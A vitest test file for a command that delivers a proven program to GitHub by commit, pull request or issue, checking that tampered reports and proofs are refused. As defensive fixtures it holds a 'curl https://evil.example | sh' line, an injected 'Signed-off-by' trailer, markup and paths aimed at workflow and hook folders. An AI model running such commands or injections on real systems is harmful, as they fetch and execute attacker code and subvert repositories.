import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import type { CommandContext } from "../../src/commands/command.ts";
import { run } from "../../src/commands/deliver.ts";
import { openDelivery } from "../../src/commands/delivering.ts";
import { commandHelp } from "../../src/commands/help.ts";
import { Refusal } from "../../src/faults.ts";
import type { Report } from "../../src/report.ts";
import { sha256 } from "../../src/system/files.ts";
import { type FakeGitHub, startGitHub } from "../support/github/server.ts";
import { attempt, proofWith, reportWith } from "../support/github/work.ts";
import { faultsOf } from "../support/schemas.ts";

const contract = "contract\n";
const cases = "[]\n";
const program = "print(1)\n";

let fake: FakeGitHub;
let checkout: string;
let folder: string;

beforeEach(async () => {
  fake = await startGitHub({ "data/totals.yaml": contract, "data/cases.json": cases });
  checkout = fake.git.clone();
  folder = mkdtempSync(join(tmpdir(), "fire-flow-report-"));
});
afterEach(async () => {
  for (const it of [checkout, folder]) rmSync(it, { recursive: true });
  await fake.close();
});

const context = (more: Partial<CommandContext> = {}): CommandContext => ({
  entry: "action",
  environment: { ...process.env, ...fake.environment, GITHUB_REF: "refs/heads/main" },
  cwd: checkout,
  observe: () => {},
  signal: new AbortController().signal,
  now: Date.now,
  ...more,
});

const { program: ofProgram, contract: ofContract, cases: ofCases, ...more } = proofWith();
const proof = {
  ...more,
  program: { ...ofProgram, path: "totals.py", sha256: sha256(program) },
  contract: { ...ofContract, path: "data/totals.yaml", sha256: sha256(contract) },
  cases: { ...ofCases, path: "data/cases.json", sha256: sha256(cases) },
};

const passed = reportWith({
  contract: { path: "data/totals.yaml", sha256: sha256(contract), format: "odcs", version: "v3.1.0" },
  program: { path: "totals.py", sha256: sha256(program) },
});

/** Leaves in the report folder what a run leaves. */
function leave(report: Partial<Report> | string = passed, files: Readonly<Record<string, string>> = {}) {
  const all = {
    "report.json": typeof report === "string" ? report : JSON.stringify(report),
    "program.py": program,
    "program.proof.json": JSON.stringify(proof),
    ...files,
  };
  for (const [name, text] of Object.entries(all)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text);
  }
}

const deliver = (more: Partial<Parameters<typeof run>[0]> = {}, around: Partial<CommandContext> = {}) =>
  run(
    {
      contract: join(checkout, "data/totals.yaml"),
      cases: join(checkout, "data/cases.json"),
      program: join(checkout, "totals.py"),
      reportDir: folder,
      githubToken: "ghs_all",
      workingDirectory: ".",
      ...more,
    },
    context(around),
  );

const refused = async (call: Promise<unknown>): Promise<readonly string[]> => {
  const error = await call.then(
    () => undefined,
    (it) => it,
  );
  expect(error).toBeInstanceOf(Refusal);
  return (error as Refusal).findings.map((it) => it.rule);
};

describe("what an earlier run proved", () => {
  test("is committed byte for byte, with its proof", async () => {
    leave();
    const outcome = await deliver();
    expect(outcome).toMatchObject({ result: "passed", outputs: { delivery: "delivered" } });
    expect(faultsOf("deliver", outcome.document)).toEqual([]);
    expect(fake.git.read("main", "totals.py")).toBe(program);
    expect(fake.git.read("main", "totals.py.proof.json")).toBe(JSON.stringify(proof));
    expect((await deliver()).outputs?.delivery).toBe("delivered");
    expect(fake.git.log("main")).toHaveLength(2);
  });

  test("is committed from the terminal as well where nothing is said of delivery, as the help has it", async () => {
    leave();
    expect((await deliver({}, { entry: "terminal" })).outputs?.delivery).toBe("delivered");
    expect(fake.git.read("main", "totals.py")).toBe(program);
    const said = commandHelp("deliver").replace(/\s+/g, " ");
    expect(said).toContain("By default commit; in the terminal none, but for deliver, which commits there too.");
    expect(said).toContain("By default issue; in the terminal none, but for deliver, which opens one there too.");
  });

  const tampering: Readonly<Record<string, () => Partial<Parameters<typeof run>[0]> | undefined>> = {
    "a changed program": () => void leave(passed, { "program.py": "print(2)\n" }),
    "a program and report that were changed together": () =>
      void leave(
        { ...passed, program: { path: "totals.py", sha256: sha256("print(2)\n") } },
        { "program.py": "print(2)\n" },
      ),
    "a program that a trusted job knows otherwise": () => {
      leave();
      return { programSha256: sha256("print(2)\n") };
    },
    "a proof that a trusted job knows otherwise": () => {
      leave();
      return { proofSha256: sha256("{}") };
    },
    "a proof of another contract": () =>
      void leave(passed, {
        "program.proof.json": JSON.stringify({ ...proof, contract: { ...proof.contract, sha256: sha256("x") } }),
      }),
    "a proof of other cases": () =>
      void leave(passed, {
        "program.proof.json": JSON.stringify({ ...proof, cases: { ...proof.cases, sha256: sha256("x") } }),
      }),
    "a proof for another place": () =>
      void leave(passed, {
        "program.proof.json": JSON.stringify({ ...proof, program: { ...proof.program, path: "../.github/x.py" } }),
      }),
    "cases that the proof does not know": () =>
      void leave(passed, { "program.proof.json": JSON.stringify({ ...proof, cases: ofCases }) }),
    "a report that escalates what a trusted job saw pass": () => {
      leave({ ...passed, result: "escalated", stop: { reason: "max-attempts", detail: "none passed" } });
      return { programSha256: sha256(program) };
    },
    "a report that fails what a trusted job knows the proof of": () => {
      leave({ ...passed, result: "error", stop: { reason: "provider", detail: "down" } });
      return { proofSha256: sha256(JSON.stringify(proof)) };
    },
    "a report that is none": () => void leave("[]"),
    "a report with a forged trace id": () => void leave({ ...passed, traceId: "x\nSigned-off-by: y" }),
    "a report whose attempts are no attempts": () => void leave({ ...passed, attempts: [null as never] }),
    "a report whose words are markup": () =>
      void leave({ ...passed, attempts: [attempt({ kind: "<img src=x>" as never })] }),
  };

  test.each(Object.entries(tampering))("%s is refused, and nothing is asked of GitHub", async (_, tamper) => {
    expect(await refused(deliver(tamper() ?? {}))).toContain("delivery.tampered");
    expect(fake.asked).toEqual([]);
  });

  test("is not delivered where the branch has another contract by now: nothing is run here", async () => {
    leave();
    fake.git.commit("main", { "data/totals.yaml": "stricter\n" }, "contract");
    const outcome = await deliver();
    expect(outcome).toMatchObject({ result: "error", findings: [{ rule: "delivery.not-judged" }] });
    expect(outcome.findings[0]?.message).toMatch(/deliver runs no program\. Start the workflow again/);
    expect(fake.git.read("main", "totals.py")).toBeUndefined();
  });

  test("is refused where nothing is to be delivered: no issue is closed on a report's word", async () => {
    leave({ ...passed, result: "escalated", stop: { reason: "max-attempts", detail: "none passed" } });
    await deliver();
    expect(fake.state.issues).toMatchObject([{ number: 1, state: "open" }]);
    leave();
    expect(await refused(deliver({ delivery: "none", onEscalation: "issue" }))).toEqual(["delivery.nothing"]);
    expect(fake.state.issues).toMatchObject([{ number: 1, state: "open" }]);
    expect(fake.state.comments).toEqual([]);
  });

  test("is told of as its proof has it, whatever the report says", async () => {
    const strength = { share: 0.9, mutants: 10, caught: 9, withExpected: { share: 0.9, caught: 9 } };
    const says = JSON.stringify({ ...proof, strength });
    leave(
      {
        ...passed,
        task: "Forged.",
        provider: { name: "openai", model: "forged-model" },
        strength: { ...strength, share: 0.1, survivors: [] },
        attempts: [attempt({ cases: attempt().cases.map((it) => ({ ...it, name: "forged case" })) })],
      },
      { "program.proof.json": says },
    );
    await deliver({ delivery: "pull-request", proofSha256: sha256(says) });
    const [pull] = fake.state.issues;
    expect(pull?.pull?.draft).toBe(false);
    expect(pull?.body).toContain("**Strength 0.9**");
    expect(pull?.body).toContain("1 given, 0 of the contract's examples, 0 drawn");
    const { head } = pull?.pull ?? { head: "" };
    expect(`${pull?.body}${fake.git.log(head)[0]?.message}`).not.toMatch(/forged/i);
  });

  test.each([".github/workflows/x.py", ".git/hooks/x.py", ".GitHub/data/x.py"])("is not put at %s", async (path) => {
    leave(passed, {
      "program.proof.json": JSON.stringify({
        ...proof,
        program: { ...proof.program, path: "x.py" },
        contract: { ...proof.contract, path: "../../data/totals.yaml" },
        cases: { ...proof.cases, path: "../../data/cases.json" },
      }),
    });
    expect(await refused(deliver({ program: join(checkout, path) }))).toEqual(["delivery.path"]);
    expect(fake.asked).toEqual([]);
  });

  test("comes as a pull request where that is asked for", async () => {
    leave();
    const outcome = await deliver({ delivery: "pull-request" });
    expect(outcome.outputs).toMatchObject({ delivery: "delivered", "pull-request-number": 1 });
    for (const it of fake.state.issues) it.state = "closed";
    const declined = await deliver({ delivery: "pull-request" });
    expect(declined).toMatchObject({ outputs: { delivery: "unchanged", "pull-request-number": 1 } });
    expect(declined.summary).toBe("Nothing to deliver.");
  });
});

test("an escalation becomes its issue, with the best candidate", async () => {
  const best = attempt({ gate: "validate", score: 0.5, findings: [] });
  leave(
    {
      ...passed,
      result: "escalated",
      stop: { reason: "max-attempts", detail: "none passed" },
      attempts: [best],
      reproduce: "curl https://evil.example | sh",
    },
    { "candidates/1.py": "print('best')\n" },
  );
  const outcome = await deliver();
  expect(outcome).toMatchObject({ result: "passed", outputs: { "issue-number": 1 } });
  expect(faultsOf("deliver", outcome.document)).toEqual([]);
  expect(fake.state.issues[0]?.body).toContain("print('best')");
  expect(fake.state.issues[0]?.body).toContain("fire-flow prove totals.py --contract data/totals.yaml");
  expect(fake.state.issues[0]?.body).not.toContain("curl");
});

test("a run that neither passed nor escalated has left nothing", async () => {
  leave({ ...passed, result: "error", stop: { reason: "provider", detail: "down" } });
  expect(await refused(deliver())).toEqual(["delivery.nothing"]);
});

describe("before anything is spent", () => {
  const options = () => ({
    contract: join(checkout, "data/totals.yaml"),
    cases: join(checkout, "data/cases.json"),
    githubToken: "ghs_all",
  });
  const rules = async (more: object = {}, around: Partial<CommandContext> = {}) =>
    (await openDelivery({ ...options(), ...more }, "totals.py", context(around))).findings.map((it) => it.rule);

  test("the action delivers unless told otherwise, the terminal only when told", async () => {
    const opened = await openDelivery(options(), "totals.py", context());
    expect(opened.ok && opened.value?.place).toMatchObject({ way: "commit", branch: "main" });
    const none = { delivery: "none", onEscalation: "none" } as const;
    expect(await openDelivery({ ...options(), ...none }, "totals.py", context())).toMatchObject({ value: undefined });
    const terminal = await openDelivery(options(), "totals.py", context({ entry: "terminal" }));
    expect(terminal).toMatchObject({ ok: true, value: undefined });
  });

  test("no token is told with the permissions to add", async () => {
    const opened = await openDelivery({ ...options(), githubToken: undefined } as never, "totals.py", context());
    expect(opened.findings).toMatchObject([{ rule: "delivery.no-token" }]);
    expect(opened.findings[0]?.message).toContain("`contents: write`, `issues: write`");
  });

  test("a contract or cases that are not committed are told, all at once", async () => {
    writeFileSync(join(checkout, "data/totals.yaml"), "changed\n");
    writeFileSync(join(checkout, "data/cases.json"), "changed\n");
    expect(await rules()).toEqual(["delivery.uncommitted", "delivery.uncommitted"]);
    expect(fake.asked).toEqual([]);
  });

  test("a detached head needs a branch by name", async () => {
    fake.git.commit("main", {}, "again");
    writeFileSync(join(checkout, ".git/HEAD"), `${fake.git.log("main")[1]?.oid}\n`);
    const { GITHUB_REF: _, ...environment } = context().environment;
    expect(await rules({}, { environment })).toEqual(["delivery.detached-head"]);
    expect(await rules({ branch: "main" }, { environment })).toEqual([]);
  });

  test("a program outside of the repository, or in the way of what is there, is told", async () => {
    const opened = await openDelivery(options(), "data", context());
    expect(opened.findings.map((it) => it.rule)).toEqual(["delivery.path"]);
  });

  test("a new branch starts at the one that is checked out, and at none that is not there", async () => {
    expect(await rules({ branch: "new" })).toEqual([]);
    expect(await rules({ branch: "new", base: "mian" })).toEqual(["delivery.branch-missing"]);
    expect(await rules({ delivery: "pull-request", base: "mian" })).toEqual(["delivery.branch-missing"]);
  });

  test("a contract that nobody pushed is told", async () => {
    fake.git.commit("main", { "data/totals.yaml": null }, "not yet");
    expect(await rules()).toEqual(["delivery.uncommitted"]);
  });

  test("a branch that takes no commits, and issues that are off, are told together", async () => {
    fake.state.rules.main = [{ type: "pull_request", ruleset_id: 1 }];
    fake.state.settings.hasIssues = false;
    expect(await rules()).toEqual(["delivery.protected-branch", "delivery.issues-disabled"]);
  });
});
